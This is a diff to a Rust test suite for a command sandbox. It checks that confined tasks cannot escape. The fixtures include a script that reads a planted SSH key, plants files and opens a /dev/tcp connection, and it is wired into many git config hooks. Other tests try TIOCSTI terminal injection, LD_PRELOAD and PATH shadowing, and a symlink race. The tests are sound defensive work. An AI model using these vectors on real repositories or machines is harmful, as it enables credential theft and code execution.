@@ -1,9 +1,9 @@
 //! What the kernel holds a task to: a program that tries everything, under the names of what only reads.
 
 use crate::CSN;
-use countersign_model::{Code, Confinement, Frame, Limited, Outcome, Record, Status, What};
+use countersign_model::{Code, Confinement, Frame, Outcome, Record, Status, What};
 use countersign_testkit::House;
-use serde_json::{Value, json};
+use serde_json::json;
 use std::{
     fs,
     os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink},
@@ -169,8 +169,10 @@ fn examples() -> Vec<String> {
     [of(PHRASES), of(GIT_PHRASES)].concat()
 }
 
-fn nothing_gets_out(user: Option<u32>) {
+fn nothing_gets_out(user: Option<u32>, config: &str) {
     let mut range = Range::new(user);
+    range.house.configure(config);
+    range.house.own();
     range.start("everything");
     for program in ["seq", "xargs"] {
         range.name(program);
@@ -202,14 +204,20 @@ fn nothing_gets_out(user: Option<u32>) {
 
 #[test]
 fn nothing_gets_out_of_a_read_only_task() {
-    nothing_gets_out(None);
+    nothing_gets_out(None, "");
 }
 
 #[test]
 fn nothing_gets_out_of_a_read_only_task_of_an_ordinary_user() {
     if is_root() {
-        nothing_gets_out(Some(NOBODY));
+        nothing_gets_out(Some(NOBODY), "");
     }
+}
+
+/// Where the kernel knows no scopes, seccomp makes good for them: that is whole, too.
+#[test]
+fn nothing_gets_out_of_a_read_only_task_on_an_older_kernel() {
+    nothing_gets_out(None, "[confine]\nlandlock = 3\n");
 }
 
 /// The suite can fail: without confinement the same program gets nearly everywhere.
@@ -270,6 +278,324 @@ fn what_a_read_only_task_uses_is_bounded() {
         What::Frame(Frame::Closed { streams, .. }) => Some(streams),
         _ => None,
     });
-    let total = closed.last().unwrap().into_values().next().unwrap();
+    let total = closed.collect::<Vec<_>>().remove(0).into_values().next().unwrap();
     assert!(total.bytes <= 258 << 20 && total.bytes + total.dropped == 2 << 30, "{total:?}");
+}
+
+/// A task that a person let run has a terminal: it cannot type into it, though it is its own.
+#[test]
+fn a_confined_task_does_not_type_for_others() {
+    let mut range = Range::new(None);
+    range.start("everything");
+    let work = range.house.work();
+    fs::write(work.join("escape.targets"), "").unwrap();
+    for confinement in ["read_only", "workspace"] {
+        let with = json!({"confinement": confinement, "execution_mode": "pty"});
+        let task =
+            range.house.ask_open("python3 -c 'import fcntl,termios; fcntl.ioctl(0, termios.TIOCSTI, b\"x\")'", with);
+        let state = range.house.settled(task);
+        let said = String::from_utf8_lossy(&range.house.output(task, countersign_model::StreamName::Pty)).into_owned();
+        assert!(
+            state.outcome != Some(Outcome::Exited { code: 0 }) && said.contains("Operation not permitted"),
+            "{said}"
+        );
+        assert_eq!(state.confinement.map(Confinement::as_str), Some(confinement));
+    }
+}
+
+/// Everything that git can be told to run runs, and gets nowhere.
+#[test]
+fn what_a_repository_makes_git_run_is_confined() {
+    let house = House::up(CSN);
+    let (base, work) = (house.base().to_owned(), house.work());
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    fs::create_dir_all(base.join(".ssh")).unwrap();
+    fs::write(base.join(".ssh/id_rsa"), "STOLEN\n").unwrap();
+    let evil = work.join("evil.sh");
+    let script = format!(
+        "#!/bin/sh\nsleep 0.01; echo RAN \"$1\" >&2\n\
+         for d in {work} {base} {base}/elsewhere /tmp /var/tmp /dev/shm; do echo x > $d/pwned-{port}; done\n\
+         cat {base}/.ssh/id_rsa >&2\n\
+         bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3'\n\
+         cat \"$1\" 2> /dev/null; exit 0\n",
+        work = work.display(),
+        base = base.display(),
+    );
+    fs::write(&evil, script).unwrap();
+    fs::create_dir_all(base.join("elsewhere")).unwrap();
+    let run = format!("sh {}", evil.display());
+    let sh = |text: &str| {
+        let out = house.outside(&["bash", "-c", text]);
+        assert!(out.status.success(), "{text}: {}", String::from_utf8_lossy(&out.stderr));
+    };
+    let author = "-c user.name=a -c user.email=a@b";
+    sh(&format!(
+        "git init -q -b main . && echo one > a.txt && git add a.txt && git {author} commit -qm one && echo two > a.txt"
+    ));
+    let settings = [
+        format!("core.fsmonitor '{run}'"),
+        format!("diff.external '{run}'"),
+        format!("diff.evil.textconv '{run}'"),
+        format!("diff.evil.command '{run}'"),
+        format!("filter.evil.clean '{run}'"),
+        format!("filter.evil.smudge '{run}'"),
+        format!("filter.evil.process '{run}'"),
+        format!("core.pager '{run}'"),
+        format!("pager.log '{run}'"),
+        format!("core.editor '{run}'"),
+        format!("core.sshCommand '{run}'"),
+        format!("core.alternateRefsCommand '{run}'"),
+        format!("gpg.program '{run}'"),
+        format!("alias.status '!{run}'"),
+        format!("alias.st '!{run}'"),
+        format!("core.hooksPath {}", work.display()),
+        format!("credential.helper '!{run}'"),
+        "log.showSignature true".to_owned(),
+        format!("include.path {}/included", work.display()),
+    ];
+    fs::write(work.join("included"), format!("[core]\n\tfsmonitor = {run}\n[diff]\n\texternal = {run}\n")).unwrap();
+    fs::write(work.join(".git/info/attributes"), "* diff=evil filter=evil\n").unwrap();
+    fs::write(work.join("post-index-change"), format!("#!/bin/sh\nexec {run}\n")).unwrap();
+    sh("chmod +x post-index-change evil.sh");
+    let pwned = || {
+        let places =
+            [work.clone(), base.clone(), base.join("elsewhere"), "/tmp".into(), "/var/tmp".into(), "/dev/shm".into()];
+        places.into_iter().map(|d| d.join(format!("pwned-{port}"))).filter(|p| p.exists()).collect::<Vec<_>>()
+    };
+    let (mut ran, mut refused) = (0, 0);
+    for setting in &settings {
+        let (name, _) = setting.split_once(' ').unwrap();
+        sh(&format!("git config {setting}"));
+        for text in [
+            "git status",
+            "git diff",
+            "git log -p -1",
+            "git show HEAD",
+            "git blame a.txt",
+            "git ls-files -m",
+            "git diff --cached",
+        ] {
+            let task = house.ask_with(text, json!({"profile": "safe"}));
+            assert_ne!(task.status, Status::Queued, "{text}");
+            let state = house.settled(task.task_id);
+            assert_eq!(state.confinement, Some(Confinement::ReadOnly));
+            let said = house.output(task.task_id, countersign_model::StreamName::Stderr);
+            let said = String::from_utf8_lossy(&said).into_owned() + &house.stdout(task.task_id);
+            assert!(!said.contains("STOLEN"), "{name}, {text}: {said}");
+            ran += usize::from(said.contains("RAN"));
+            refused += usize::from(said.contains("Permission denied") || said.contains("Operation not permitted"));
+        }
+        assert_eq!(pwned(), Vec::<PathBuf>::new(), "{name}");
+        sh(&format!("git config --unset {name}"));
+    }
+    assert!(listener.accept().is_err(), "nobody came");
+    assert!(ran > 10 && refused > 10, "the helpers ran {ran} times and were refused {refused} times");
+    // The helper is not harmless: run by somebody else it does all of that.
+    sh(&run);
+    assert!(pwned().len() >= 4 && listener.accept().is_ok());
+    pwned().into_iter().for_each(|p| fs::remove_file(p).unwrap());
+}
+
+#[test]
+fn what_injects_code_does_not_reach_a_read_only_task() {
+    let house = House::up(CSN);
+    let work = house.work();
+    fs::write(work.join("evil.c"), "").unwrap();
+    let inherit = json!({"PATH": std::env::var("PATH").unwrap(), "HOME": house.base(), "LD_PRELOAD": "/x.so", "BASH_ENV": work.join("rc"), "EDITOR": "vi", "GIT_SSH_COMMAND": "x"});
+    fs::write(work.join("rc"), "echo INJECTED\n").unwrap();
+    let task =
+        house.ask_with("ls; echo \"[$EDITOR$LD_PRELOAD]\"", json!({"profile": "safe", "args": {"inherit": inherit}}));
+    house.settled(task.task_id);
+    let said = house.stdout(task.task_id);
+    assert!(said.ends_with("[]\n") && !said.contains("INJECTED"), "{said}");
+    let exposed = house.frame(task.task_id, |f| matches!(f, Frame::EnvExposed { .. }));
+    let Frame::EnvExposed { names, class, .. } = exposed else { panic!() };
+    assert_eq!(class, countersign_model::EnvClass::Base);
+    let names: Vec<&str> = names.iter().map(|n| n.as_str()).collect();
+    assert!(
+        names.contains(&"GIT_CONFIG_GLOBAL") && names.contains(&"TMPDIR") && !names.contains(&"EDITOR"),
+        "{names:?}"
+    );
+    // Named, it would be passed on: then a person is asked.
+    let named = json!({"profile": "safe", "attended": false, "args": {"env": {"LD_PRELOAD": "/x.so"}}});
+    assert_eq!(house.refused("ls", named).0.code, Code::ApprovalRequiredUnattended);
+    // A program of the workspace by a known name is not that program.
+    fs::create_dir(work.join("bin")).unwrap();
+    fs::copy(escape(), work.join("bin/ls")).unwrap();
+    let path = format!("{}:{}", work.join("bin").display(), std::env::var("PATH").unwrap());
+    let shadowed =
+        json!({"profile": "safe", "attended": false, "args": {"inherit": {"PATH": path, "HOME": house.base()}}});
+    assert_eq!(house.refused("ls", shadowed).0.code, Code::ApprovalRequiredUnattended);
+}
+
+/// A file that is swapped for a link between the look and the read leads nowhere.
+#[test]
+fn a_swapped_link_leads_nowhere() {
+    let house = House::up(CSN);
+    let (base, work) = (house.base().to_owned(), house.work());
+    fs::create_dir_all(base.join(".ssh")).unwrap();
+    fs::write(base.join(".ssh/id_rsa"), "STOLEN\n").unwrap();
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let swapping = {
+        let (stop, work, base) = (stop.clone(), work.clone(), base.clone());
+        std::thread::spawn(move || {
+            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
+                fs::write(work.join("next"), "plain\n").unwrap();
+                fs::rename(work.join("next"), work.join("notes")).unwrap();
+                symlink(base.join(".ssh/id_rsa"), work.join("next")).unwrap();
+                fs::rename(work.join("next"), work.join("notes")).unwrap();
+                let _ = fs::remove_file(work.join("dir"));
+                let _ = fs::create_dir(work.join("dir"));
+                let _ = fs::remove_dir(work.join("dir"));
+                symlink(base.join(".ssh"), work.join("dir")).unwrap();
+            }
+        })
+    };
+    let (mut plain, mut walled) = (0, 0);
+    for _ in 0..150 {
+        let Ok(task) =
+            house.client().ask(&house.request("cat notes dir/id_rsa", json!({"profile": "safe", "attended": false})))
+        else {
+            continue;
+        };
+        house.settled(task.task_id);
+        let said = house.stdout(task.task_id);
+        assert!(!said.contains("STOLEN"), "{said}");
+        plain += usize::from(said.contains("plain"));
+        let err = house.output(task.task_id, countersign_model::StreamName::Stderr);
+        walled += usize::from(String::from_utf8_lossy(&err).contains("Permission denied"));
+    }
+    stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    swapping.join().unwrap();
+    println!("{plain} read the file, {walled} met the wall");
+}
+
+#[test]
+fn a_task_that_meets_the_wall_is_told_so_in_one_line() {
+    let house = House::up(CSN);
+    let locked = house.work().join("locked");
+    fs::write(&locked, "x").unwrap();
+    fs::set_permissions(&locked, fs::Permissions::from_mode(0o0)).unwrap();
+    let out = house.csn(&["run", "cat locked"]);
+    let err = String::from_utf8_lossy(&out.stderr).into_owned();
+    let note = "it ran confined (read_only)";
+    assert_eq!((out.status.code(), err.matches(note).count()), (Some(1), 1), "{err}");
+    assert!(err.contains("--confinement shield"), "{err}");
+    let task = house.client().tasks("?limit=1").unwrap().tasks.remove(0).task_id;
+    let state = house.client().task(&task.to_string()).unwrap();
+    assert!(state.note.unwrap().as_str().contains(note));
+    // Not for what fails otherwise, and not for what succeeds.
+    for text in ["grep nothing /dev/null", "cat locked || true"] {
+        let out = house.csn(&["run", text]);
+        assert!(!String::from_utf8_lossy(&out.stderr).contains("it ran confined"), "{text}");
+    }
+    // As it says: a person is asked then, and it runs open.
+    let task = house.ask_open("cat locked", json!({}));
+    let state = house.settled(task);
+    assert_eq!(state.confinement, Some(Confinement::Shield));
+    assert_eq!(state.outcome, Some(Outcome::Exited { code: if is_root() { 0 } else { 1 } }));
+}
+
+/// A kernel that cannot do it: what only reads asks, what would run in a workspace asks, and nothing runs unconfined
+/// in silence.
+#[test]
+fn an_older_kernel_asks_instead() {
+    let house = House::new(CSN);
+    house.configure("[confine]\nlandlock = 2\n");
+    house.start();
+    let asked = house.ask_with("ls", json!({"profile": "safe"}));
+    assert_eq!(asked.status, Status::Queued);
+    assert_eq!(house.ask_with("touch x", json!({})).status, Status::Queued, "full_auto asks, too");
+    assert_eq!(house.refused("touch x", json!({"confinement": "workspace"})).0.code, Code::CannotConfine);
+    let task = house.ask_open("true", json!({}));
+    let state = house.settled(task);
+    let missing: Vec<String> = state.enforced.unwrap().missing.iter().map(|m| m.as_str().to_owned()).collect();
+    assert_eq!(
+        (state.confinement, missing),
+        (Some(Confinement::Shield), vec!["signals".to_owned(), "tracing".to_owned()])
+    );
+    let shown = String::from_utf8(house.csn(&["show", &task.to_string()]).stdout).unwrap();
+    assert!(shown.contains("shield (partial: no signals, tracing)"), "{shown}");
+    let doctor = String::from_utf8(house.csn(&["doctor"]).stdout).unwrap();
+    assert!(doctor.contains("asks instead"), "{doctor}");
+
+    let house = House::new(CSN);
+    house.configure("[confine]\nlandlock = 5\n");
+    house.start();
+    let reads = house.ask_with("ls", json!({"profile": "safe"}));
+    let enforced = house.settled(reads.task_id).enforced.unwrap();
+    assert_eq!((enforced.landlock, enforced.seccomp, enforced.missing.len()), (5, true, 0));
+    assert_eq!(
+        house.ask_with("timeout 5 ls", json!({"profile": "safe"})).status,
+        Status::Queued,
+        "it could not end it"
+    );
+}
+
+#[test]
+fn a_shield_keeps_a_task_from_others_and_from_nothing_else() {
+    let range = Range::new(None);
+    let house = &range.house;
+    house.start();
+    let pid = range.victim.id();
+    let shielded = |text: &str| {
+        let task = house.ask_open(text, json!({}));
+        let state = house.settled(task);
+        assert_eq!(state.confinement, Some(Confinement::Shield), "{text}");
+        let err = String::from_utf8_lossy(&house.output(task, countersign_model::StreamName::Stderr)).into_owned();
+        (state.outcome.unwrap().exit_code(), house.stdout(task), err, state.note)
+    };
+    let (code, _, err, note) = shielded(&format!("kill {pid}"));
+    assert!(code == 1 && err.contains("Operation not permitted") && note.is_some(), "{err}");
+    // Root may look at the environment of others whatever confines it; tracing it may not.
+    let file = if is_root() { "mem" } else { "environ" };
+    let (code, ..) = shielded(&format!("cat /proc/{pid}/{file}"));
+    assert_eq!(code, 1, "{file}");
+    let (code, ..) = shielded("kill -9 $PPID");
+    assert_eq!(code, 1, "not its supervisor either");
+    let (code, out, err, _) =
+        shielded("mkdir -p a b && touch a/f && mv a/f b/f && ln b/f b/g && sleep 9 & kill $! && wait; ls b; echo fine");
+    assert!(code == 0 && out.contains("fine"), "{out}{err}");
+    let (code, out, ..) = shielded("grep NoNewPrivs /proc/self/status");
+    assert_eq!((code, out.contains('1')), (0, true));
+    if is_root() {
+        let script = "exec unshare -m bash -c 'mount -t tmpfs none /mnt && touch /mnt/x'";
+        fs::write(house.work().join("mount.sh"), script).unwrap();
+        let (code, _, err, _) = shielded("bash mount.sh");
+        assert_eq!(code, 0, "what root may, it still may: {err}");
+    }
+    // What asks for other rights cannot be shielded: allowed, it runs as it is, and that is on record.
+    let task = house.ask_open("sudo -n true", json!({"confinement": null}));
+    assert_eq!(house.settled(task).confinement, Some(Confinement::None));
+}
+
+/// With the leave to read everywhere, keys are still kept.
+#[test]
+fn reading_everywhere_stops_at_keys() {
+    let house = House::new(CSN);
+    let base = house.base().to_owned();
+    for (path, text) in [(".ssh/id_rsa", "STOLEN"), ("docs/plain", "plain"), (".config/gh/hosts.yml", "STOLEN")] {
+        fs::create_dir_all(base.join(path).parent().unwrap()).unwrap();
+        fs::write(base.join(path), text).unwrap();
+    }
+    house.configure("[audience.personal]\nread = \"all\"\n");
+    house.start();
+    let read = |text: String| {
+        let task = house.ask_with(&text, json!({"profile": "safe"}));
+        (task.status != Status::Queued).then(|| {
+            house.settled(task.task_id);
+            house.stdout(task.task_id)
+        })
+    };
+    assert_eq!(read(format!("cat {}/docs/plain", base.display())).as_deref(), Some("plain"));
+    assert!(read("cat /etc/hostname".to_owned()).is_some());
+    assert_eq!(read(format!("cat {}/.ssh/id_rsa", base.display())), None);
+    // Whatever a program goes through by itself: the kernel knows the places.
+    let all =
+        read(format!("rg --no-ignore --hidden --no-messages STOLEN {0}/docs {0}/.config/gh/../..", base.display()));
+    assert!(all.is_none_or(|said| !said.contains("STOLEN")));
+    let walk = format!("find {}/.config {}/.ssh -type f", base.display(), base.display());
+    assert!(read(walk).is_none_or(|said| !said.contains("STOLEN")));
 }
